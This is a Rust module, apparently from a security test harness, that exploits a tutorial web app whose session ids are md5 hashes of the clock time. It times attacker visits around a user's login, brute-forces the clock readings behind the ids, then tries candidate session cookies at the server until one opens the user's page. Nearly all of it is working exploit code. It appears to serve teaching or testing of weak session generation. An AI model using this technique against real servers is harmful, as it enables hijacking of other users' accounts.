//! Guesses the session id of another user from the clock.
//!
//! The tutorial's id is `md5(str(time.time()))`. A hash hides its input only if the input cannot be
//! guessed, and this one can: a second has 4,194,304 readings of the clock as a float. So:
//!
//! ```text
//!  attacker    visits, gets id A                     time -->
//!  user               visits, logs in
//!  attacker                    visits, gets id B
//!              |------|--------|
//!              A      ?        B
//! ```
//! The `Date` of the response gives the second of A; the hash of each reading in that second is
//! compared with A. The same, from there on, for B. The user's id is the hash of a reading between
//! them, of which there are a few thousand: each is tried at the server.

use std::io;
use std::thread;
use std::time::{Duration, Instant, UNIX_EPOCH};

use dustdevil::http::date;
use md5::{Digest, Md5};

use super::Outcome;
use crate::client::{Connection, Request, Response};
use crate::target::Target;
use crate::victim::tutorial::python_str;

/// Maximum time between the visits of the attacker, with the user's between them. A real attacker
/// waits for such a moment; so does this one, for a while.
const NARROW: Duration = Duration::from_millis(2);

/// Maximum number of moments that are waited for. The best one counts.
const MOMENTS: usize = 40;

/// Maximum number of ids that are tried at the server.
const MAX_TRIES: usize = 400_000;

/// Number of requests that are sent before the first response is read.
const BATCH: usize = 64;

/// A visit: what the server has sent.
struct Visit {
    /// Name and value of the session cookie.
    cookie: (String, String),
    /// The Unix time of the Date field.
    second: u64,
    page: Response,
}

/// The moment at which a user comes between two visits of the attacker.
struct Moment {
    before: Visit,
    user: Visit,
    after: Visit,
    took: Duration,
}

pub(super) fn make(target: &Target) -> io::Result<Outcome> {
    let mut attacker = Connection::open(target)?;
    let mut user = Connection::open(target)?;
    let Some(mut best) = moment(&mut attacker, &mut user)? else {
        println!("Neither a visit nor a login of admin sets a cookie with a session id.");
        return Ok(Outcome::NoAnswer);
    };
    for _ in 0..MOMENTS {
        if best.took <= NARROW {
            break;
        }
        match moment(&mut attacker, &mut user)? {
            Some(next) if next.took < best.took => best = next,
            _ => {}
        }
    }
    log_in(&mut user, &best.user)?;
    println!(
        "The attacker visits {}/login, a user logs in, the attacker visits again.",
        target.url()
    );
    println!("Between the two visits: {:.2} ms.", best.took.as_secs_f64() * 1000.0);
    println!("What the attacker has:");
    println!("  Date: {}", date_of(best.before.second));
    println!("  Set-Cookie: {}={}", best.before.cookie.0, best.before.cookie.1);
    println!("  Set-Cookie: {}={}", best.after.cookie.0, best.after.cookie.1);
    println!();
    let began = Instant::now();
    let Some(clock) = find_readings(&best) else {
        println!(
            "No md5(str(time)) of the {} readings in two seconds is the first id,",
            2 << 22
        );
        println!(
            "computed in {:.1} s: this id does not come from the clock.",
            seconds(began)
        );
        return Ok(Outcome::Held);
    };
    println!(
        "Of all readings of the clock in that second, hashed in {:.1} s, these are",
        seconds(began)
    );
    println!("the two ids:");
    println!("  md5(\"{}\") = {}", python_str(clock.0), best.before.cookie.1);
    println!("  md5(\"{}\") = {}", python_str(clock.1), best.after.cookie.1);
    try_ids(&mut attacker, &best.before.cookie.0, clock)
}

/// Lets the attacker, the user and the attacker visit, at once after another. Returns `None` if
/// the server gives no session ids.
fn moment(attacker: &mut Connection, user: &mut Connection) -> io::Result<Option<Moment>> {
    let began = Instant::now();
    let before = visit(attacker)?;
    let user = visit(user)?;
    let after = visit(attacker)?;
    let took = began.elapsed();
    Ok(match (before, user, after) {
        (Some(before), Some(user), Some(after)) => {
            Some(Moment { before, user, after, took })
        }
        _ => None,
    })
}

/// Visits the login page as a new client, and logs in if only that brings a session id.
fn visit(connection: &mut Connection) -> io::Result<Option<Visit>> {
    let page = connection.request(Request { path: "/login", ..Request::default() })?;
    if let Some(cookie) = session_cookie(&page) {
        return Ok(Some(Visit { cookie, second: second_of(&page), page }));
    }
    let response = post_login(connection, &page, "")?;
    let cookie = session_cookie(&response);
    let second = second_of(&response);
    Ok(cookie.map(|cookie| Visit { cookie, second, page: response }))
}

/// Sends the login form of a page, with the cookies of the page and `cookie`.
fn post_login(
    connection: &mut Connection,
    page: &Response,
    cookie: &str,
) -> io::Result<Response> {
    let token = page.form_token().unwrap_or_default();
    let form = format!("username=admin&password=123&_xsrf={token}");
    let others = page.cookies().map(|(name, value)| format!("{name}={value}"));
    let mut cookies: Vec<String> = others.collect();
    cookies.extend((!cookie.is_empty()).then(|| cookie.to_owned()));
    let cookies = cookies.join("; ");
    connection.request(Request { path: "/login", cookies: &cookies, form: Some(&form) })
}

/// Logs the user in, if the visit has not. Its id stays the same.
fn log_in(connection: &mut Connection, visit: &Visit) -> io::Result<()> {
    if visit.page.form_token().is_some() {
        post_login(connection, &visit.page, "")?;
    }
    Ok(())
}

/// Returns the first cookie that is not an XSRF token.
fn session_cookie(response: &Response) -> Option<(String, String)> {
    let mut others = response.cookies().filter(|(name, _)| !name.contains("xsrf"));
    others.next().map(|(name, value)| (name.to_owned(), value.to_owned()))
}

fn second_of(response: &Response) -> u64 {
    let date = response.field("Date").and_then(date::parse);
    let since = date.and_then(|date| date.duration_since(UNIX_EPOCH).ok());
    since.unwrap_or_default().as_secs()
}

fn date_of(second: u64) -> String {
    date::format(UNIX_EPOCH + Duration::from_secs(second))
}

fn seconds(began: Instant) -> f64 {
    began.elapsed().as_secs_f64()
}

/// Returns the readings of the clock whose hashes are the ids before and after the user's.
fn find_readings(moment: &Moment) -> Option<(f64, f64)> {
    let second = moment.before.second;
    let before = decode(&moment.before.cookie.1)?;
    let after = decode(&moment.after.cookie.1)?;
    // The id is a little older than the Date, so it may be of the second before.
    let found = [second, second.saturating_sub(1)].into_iter();
    let before = found.filter_map(|second| find_in_second(second, before)).next()?;
    let last = f64_of(second + 2);
    let after = find_between(before.to_bits()..last.to_bits(), after)?;
    Some((before, after))
}

/// Returns the bytes of an id of 32 hex digits.
fn decode(id: &str) -> Option<[u8; 16]> {
    hex::decode(id).ok()?.try_into().ok()
}

/// Searches a second with two threads.
fn find_in_second(second: u64, id: [u8; 16]) -> Option<f64> {
    let (start, end) = (f64_of(second).to_bits(), f64_of(second + 1).to_bits());
    let middle = u64::midpoint(start, end);
    thread::scope(|scope| {
        let first_half = scope.spawn(|| find_between(start..middle, id));
        let second_half = find_between(middle..end, id);
        first_half.join().ok().flatten().or(second_half)
    })
}

/// Returns the reading whose hash is `id`. The bits of positive floats are in the order of the
/// floats, so the next float is the next number.
fn find_between(bits: std::ops::Range<u64>, id: [u8; 16]) -> Option<f64> {
    let mut readings = bits.map(f64::from_bits);
    readings.find(|reading| hash(*reading) == id)
}

fn hash(reading: f64) -> [u8; 16] {
    Md5::digest(python_str(reading)).into()
}

#[allow(clippy::cast_precision_loss)]
fn f64_of(second: u64) -> f64 {
    second as f64
}

/// Tries the ids of all readings between the two of the attacker.
fn try_ids(
    attacker: &mut Connection,
    name: &str,
    (before, after): (f64, f64),
) -> io::Result<Outcome> {
    let between = before.to_bits() + 1..after.to_bits();
    println!(
        "\nBetween them are {} readings. Their ids, tried at /main:",
        between.clone().count()
    );
    let began = Instant::now();
    let ids: Vec<String> = between
        .map(|bits| hex::encode(hash(f64::from_bits(bits))))
        .take(MAX_TRIES)
        .collect();
    for (number, batch) in ids.chunks(BATCH).enumerate() {
        let cookies: Vec<String> = batch.iter().map(|id| format!("{name}={id}")).collect();
        let request = |cookies| Request { path: "/main", cookies, form: None };
        let requests: Vec<Request<'_>> = cookies.iter().map(|it| request(it)).collect();
        attacker.send(&requests)?;
        for (place, cookie) in cookies.iter().enumerate() {
            let response = attacker.read()?;
            if response.status == 200 {
                let tries = number * BATCH + place + 1;
                println!("  {tries} tries in {:.1} s, then:", seconds(began));
                println!("  GET /main   Cookie: {cookie}");
                println!("  200 {}", response.content.lines().next().unwrap_or_default());
                println!(
                    "\nThis is the user's session. The attacker never saw its cookie."
                );
                return Ok(Outcome::Broken);
            }
        }
    }
    println!("  {} tries in {:.1} s, and none opens the page.", ids.len(), seconds(began));
    Ok(Outcome::Held)
}
